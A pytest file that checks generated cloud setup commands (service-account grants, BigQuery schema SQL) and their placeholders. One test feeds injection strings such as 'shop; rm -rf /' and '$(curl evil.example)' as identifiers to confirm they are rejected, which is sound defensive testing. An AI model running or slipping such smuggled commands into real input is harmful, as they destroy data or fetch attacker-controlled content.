"""Commands to paste: filled in with what is real, and with nothing that could be a trap."""

import pytest

from connections import cures
from connections.guide import guide

EMAIL = "importer@shop-4711.iam.gserviceaccount.com"


def commands(**values):
    steps = guide(**{"project_id": "", "dataset_id": "", "email": "", **values})
    return "\n".join(command["code"] for step in steps for command in step["commands"])


def test_fills_in_project_dataset_and_the_real_account():
    text = commands(project_id="shop-4711", dataset_id="shop", email=EMAIL)
    assert f"--member=serviceAccount:{EMAIL}" in text
    assert "CREATE SCHEMA IF NOT EXISTS `shop-4711`.`shop`;" in text
    assert "`shop-4711`.INFORMATION_SCHEMA.SCHEMATA" in text


def test_shows_placeholders_for_what_is_not_typed_yet():
    text = commands()
    assert "PROJECT_ID" in text
    assert "DATASET_ID" in text


@pytest.mark.parametrize("typed", ["shop; rm -rf /", "$(curl evil.example)", "a`b", "x\ny"])
def test_never_fills_in_what_is_no_identifier(typed):
    text = commands(project_id=typed, dataset_id=typed)
    assert typed not in text
    assert "PROJECT_ID" in text


def test_a_cure_without_anything_to_say_is_empty():
    assert cures.Cure().to_json() == {}


def test_a_grant_on_the_project_has_no_sql():
    cure = cures.grant_on_project(role=cures.JOB_USER, project="shop-4711", email=EMAIL).to_json()
    assert [command["label"] for command in cure["commands"]] == ["Command line"]


def test_a_grant_on_the_dataset_names_the_smallest_place():
    cure = cures.grant_on_dataset(
        role=cures.DATA_VIEWER, project="shop-4711", dataset="shop", email=EMAIL
    ).to_json()
    assert cure["resource"] == "dataset shop-4711.shop"
    assert "ON SCHEMA `shop-4711`.`shop`" in cure["commands"][1]["code"]
